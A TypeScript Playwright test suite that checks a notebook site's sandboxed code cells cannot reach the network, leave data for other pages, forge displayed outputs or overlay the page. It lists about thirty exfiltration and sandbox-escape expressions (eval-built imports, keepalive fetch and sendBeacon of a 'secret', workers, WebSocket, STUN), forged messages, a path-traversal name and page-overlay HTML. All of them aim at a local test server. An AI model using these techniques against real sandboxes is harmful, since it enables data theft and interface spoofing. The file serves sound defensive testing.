/** What a cell may not do: reach the network, forge what the page shows, lie over the page. */

import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page, Request } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it } from "vitest";
import { browserPath, launchBrowser } from "./browser.js";
import { openPage } from "./open-page.js";

const PAGE = "/notebooks/arenas-pools-blocks";
const FRAME = "src/site/static/live/cells.html";

/** Ways to reach `HERE`, each an expression; none may get there, whatever else comes of it. */
const WAYS = [
  'new Function("u", "return import(u)")(HERE + "/import-by-function")',
  '(0, eval)("import(" + JSON.stringify(HERE + "/import-by-eval") + ")")',
  '(async () => {}).constructor("u", "await import(u)")(HERE + "/import-by-constructor")',
  'import("data:text/javascript,import " + JSON.stringify(HERE + "/import-of-data"))',
  'import(URL.createObjectURL(new Blob(["import " + JSON.stringify(HERE + "/import-of-blob")], { type: "text/javascript" })))',
  'fetch(HERE + "/fetch", { mode: "no-cors" })',
  'fetch(HERE + "/fetch-kept", { method: "POST", body: "secret", keepalive: true, mode: "no-cors" })',
  'new Promise((done) => { const r = new XMLHttpRequest(); r.onloadend = done; r.open("GET", HERE + "/xhr"); r.send(); })',
  '(() => { const r = new XMLHttpRequest(); r.open("GET", HERE + "/xhr-sync", false); r.send(); })()',
  'new WebSocket(HERE.replace("http", "ws") + "/websocket")',
  'new WebSocketStream(HERE.replace("http", "ws") + "/websocket-stream").opened',
  'new EventSource(HERE + "/event-source")',
  'new WebTransport(HERE.replace("http:", "https:") + "/webtransport").ready',
  'importScripts(HERE + "/import-scripts")',
  'caches.open("x").then((c) => c.add(HERE + "/caches"))',
  'new FontFace("f", "url(" + HERE + "/font-face)").load()',
  'self.fonts.load("1px x").then(() => self.fonts.add(new FontFace("g", "url(" + HERE + "/fonts)")))',
  'navigator.sendBeacon(HERE + "/beacon", "secret")',
  'new Worker(HERE + "/worker")',
  'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(HERE + "/worker-of-blob") + ")"])))',
  'new Worker("data:text/javascript," + encodeURIComponent("importScripts(" + JSON.stringify(HERE + "/worker-of-data") + ")"))',
  'new SharedWorker(HERE + "/shared-worker")',
  'navigator.serviceWorker.register(HERE + "/service-worker")',
  'new Request(HERE + "/request").text()',
  'fetchLater(HERE + "/fetch-later")',
  'new RTCPeerConnection({ iceServers: [{ urls: "stun:" + HERE.slice(7) }] }).createOffer()',
  'createImageBitmap(HERE + "/bitmap")',
  'Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, HERE + "/fetch-of-prototype")',
  'Reflect.construct(Object.getOwnPropertyDescriptor(self, "XMLHttpRequest").value, []).open("GET", HERE)',
  '(() => { const c = new OffscreenCanvas(9, 9).getContext("2d"); c.font = "9px url(" + HERE + "/canvas)"; c.fillText("x", 0, 9); })()',
];

/** Ways to speak with other pages of the site, or to leave something for them. */
const KEPT = [
  'new BroadcastChannel("x").postMessage("secret")',
  "indexedDB.open('x')",
  'caches.open("x")',
  "navigator.storage.getDirectory()",
  "navigator.locks.request('x', () => {})",
  "cookieStore.set('x', 'y')",
];

/** Code that tries each way, and gives a text for each: what came of it. */
const trying = (ways: readonly string[], here: string) => `
  const HERE = ${JSON.stringify(here)};
  const soon = () => new Promise((go) => setTimeout(() => go("nothing happened"), 1500));
  const tried = [${ways.map((way) => `async () => ${way}`).join(", ")}].map((reach) =>
    Promise.race([soon(), reach().then(() => "done", (error) => String(error))]));
  `;

let browser: Browser;
let server: Server;
let page: Page;
const heard: string[] = [];
const hereOf = () => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

describe.skipIf(browserPath === undefined)("a cell", () => {
  beforeAll(async () => {
    browser = await launchBrowser();
    server = createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`);
      response.setHeader("access-control-allow-origin", "*");
      response.setHeader("content-type", "text/javascript");
      response.end("");
    });
    await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  });
  afterAll(async () => {
    await browser?.close();
    server?.closeAllConnections();
    server?.close();
  });
  beforeEach(async () => {
    heard.length = 0;
    page = await browser.newPage();
    await openPage(page, PAGE);
  });
  afterEach(() => page.close());

  it("reaches no host, by whatever name a worker has for it", async () => {
    const asked: Request[] = [];
    page.on("request", (request) => asked.push(request));
    const said = await ran(`${trying(WAYS, hereOf())}; (await Promise.all(tried)).join(" | ")`);
    expect(heard).toEqual([]);
    // The browser asks for the page's icon whenever it likes.
    const ofSite = `${inject("siteUrl")}/(?:assets/|live/cells|img/favicon\\.svg$)`;
    const own = new RegExp(`^(?:${ofSite}|blob:|data:)`);
    const elsewhere = asked.filter((request) => !own.test(request.url()));
    // What the policy has stopped was asked of nobody, though the browser tells of it.
    expect(elsewhere.filter((request) => request.failure()?.errorText !== "csp")).toEqual([]);
    expect(said.split(" | ")).toHaveLength(WAYS.length);
  });

  it("reaches none as somebody had it who found three ways", async () => {
    const code = `const tried = [];
      await new Function("u", "return import(u)")("${hereOf()}/a.js?secret=1").catch((e) => tried.push(e.name));
      try { const c = await caches.open("x"); await c.add("${hereOf()}/b"); } catch (e) { tried.push(e.name); }
      try { await new FontFace("f", "url(${hereOf()}/c)").load(); } catch (e) { tried.push(e.name); }
      tried.length`;
    expect(await ran(code)).toBe("3");
    expect(heard).toEqual([]);
  });

  it("leaves nothing for other pages, and hears none", async () => {
    const said = await ran(`${trying(KEPT, hereOf())}; (await Promise.all(tried)).join(" | ")`);
    expect(said.split(" | ")).toHaveLength(KEPT.length);
    // Where the page itself is not secure, the browser has none of the names to begin with.
    const refused = /do not reach the network$|is not defined$|of undefined/;
    for (const line of said.split(" | ")) expect(line).toMatch(refused);
  });

  it("is kept so by the policy of its frame alone, with every name in its place", async () => {
    const code = `addEventListener("message", async ({ ports: [port] }) => {
      ${trying([...WAYS, KEPT[2] ?? ""], hereOf())}
      port.postMessage(await Promise.all(tried));
    })`;
    const said = await page.evaluate(inSealedFrame, code);
    expect(heard).toEqual([]);
    expect(said).toHaveLength(WAYS.length + 1);
    expect(said.filter((line) => /not there for cells/.test(line))).toEqual([]);
    expect(said.at(-1)).toMatch(/SecurityError|is not defined/);
  });

  it("cannot make the page show what is not an output, nor take the page away", async () => {
    const forged = [
      "undefined",
      "'end'",
      "{ type: 'output', run, output: null }",
      "{ type: 'output', run, output: { output_type: 'error', ename: {}, evalue: [], traceback: 1 } }",
      "{ type: 'output', run, output: { output_type: 'stream', name: 'stdout', text: { x: 1 } } }",
      "{ type: 'output', run, output: { output_type: 'display_data', data: { 'text/html': {} } } }",
      "{ type: 'output', run, output: { output_type: 'display_data', data: { [CHART]: { chart: 'arenasOverTime' } } } }",
      "{ type: 'output', run, output: { output_type: 'display_data', data: { [CHART]: { chart: 'trieDrawing', root: {} } } } }",
      "{ type: 'output', run, output: { output_type: 'display_data', data: { [VERDICT]: { passed: 1, message: {} } } } }",
      "{ type: 'output', run, output: { output_type: 'display_data', data: { 'application/json': 1n } } }",
      "{ type: 'output', run, output: { output_type: 'display_data', data: new Map() } }",
      "{ type: 'output', run: 99, output: { output_type: 'stream', name: 'stdout', text: 'other' } }",
      "{ type: 'wanted', kind: 'code', name: '/assets/js/../../secret?a' }",
      "{ type: 'given', kind: {}, name: {} }",
    ];
    const complaints: string[] = [];
    page.on("pageerror", (error) => complaints.push(String(error)));
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    const code = `const CHART = "application/vnd.pymalloc-lab.chart+json", VERDICT = "application/vnd.pymalloc-lab.verdict+json", run = 1;
      const own = MessagePort.prototype.postMessage;
      const port = await new Promise((found) => {
        MessagePort.prototype.postMessage = function (...sent) { found(this); return own.apply(this, sent); };
        console.log("out");
      });
      for (const forged of [${forged}]) { own.call(port, forged); postMessage(forged); }
      "sent"`;
    expect(await ran(code)).toContain("sent");
    const cell = page.locator("#setup");
    expect(await cell.getByText("Left out:").count()).toBe(1);
    expect(await cell.getByText(/^This (?:chart|output) cannot be/).count()).toBe(2);
    expect(await page.locator(".navbar").isVisible()).toBe(true);
    expect(complaints).toEqual([]);
    expect(asked.filter((url) => url.includes("secret"))).toEqual([]);
    expect(await ran("'again'")).toContain("again");
  });

  it("is stopped when it sends without end, and the page can be used", async () => {
    await edit(`const own = MessagePort.prototype.postMessage;
      MessagePort.prototype.postMessage = function (sent) { for (;;) own.call(this, { no: sent }); };
      console.log("out")`);
    await press("Run");
    await page.locator("#setup").getByText("more than a page can show").first().waitFor();
    expect(await ran("'again'")).toContain("again");
  });

  it("lays nothing over the page with what it draws", async () => {
    const over = [
      '<div style="position: fixed; inset: 0; z-index: 99999; background: red">over</div>',
      '<div style="margin: -3000px; padding: 3000px; position: relative">over</div>',
      '<div class="navbar-sidebar__backdrop navbar-sidebar--show">over</div>',
      '<svg width="9" height="9" overflow="visible"><rect x="-3000" y="-3000" width="9999" height="9999"/></svg>',
      '<svg width="9" height="9" transform="scale(999)"><rect width="9" height="9"/></svg>',
      "<style>.navbar { display: none }</style><b id='shown'>shown</b>",
    ].join("");
    await edit(`({ outerHTML: ${JSON.stringify(over)} })`);
    await press("Run");
    await page.locator("#setup #shown").waitFor();
    for (const part of [".navbar__brand", "#after .nb-button", "#setup .nb-button"]) {
      await page.locator(part).first().click({ trial: true });
    }
    const shown = page.locator("#setup .nb-html *");
    const places = await shown.evaluateAll((all) =>
      all.map((one) => getComputedStyle(one).position),
    );
    expect(new Set(places)).toEqual(new Set(["static"]));
  });
});

describe("the frame that cells run in", () => {
  it("names its script, and lets nothing be loaded", () => {
    const html = readFileSync(FRAME, "utf8");
    const script = /<script>([\s\S]*?)<\/script>/.exec(html)?.[1] ?? "";
    const hash = createHash("sha256").update(script).digest("base64");
    expect(html).toContain(
      `content="default-src 'none'; script-src 'sha256-${hash}' 'unsafe-eval'; worker-src blob:"`,
    );
    expect(readFileSync("build/live/cells.html", "utf8")).toBe(html);
  });
});

/** In the page: runs a worker's code as cells are run, with nothing taken from it; its first message. */
function inSealedFrame(code: string): Promise<string[]> {
  return new Promise((resolve) => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => resolve(data);
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts");
    frame.onload = () => frame.contentWindow?.postMessage(code, "*", [port2]);
    frame.src = "/live/cells.html";
    document.body.append(frame);
  });
}

function press(name: string): Promise<void> {
  return page.locator("#setup").getByRole("button", { name, exact: true }).first().click();
}

/** Puts code into the first cell. */
async function edit(code: string): Promise<void> {
  const editor = page.locator("#setup .cm-content");
  if ((await editor.count()) === 0) await press("Edit");
  await editor.fill(code);
}

/** Runs code in the first cell; what it says. */
async function ran(code: string): Promise<string> {
  await edit(code);
  const done = page.evaluate(
    () =>
      new Promise((heard) => addEventListener("cell-ran", () => heard(undefined), { once: true })),
  );
  await press("Run");
  await done;
  return (await page.locator("#setup .nb-outputs code").allTextContents()).join("\n");
}
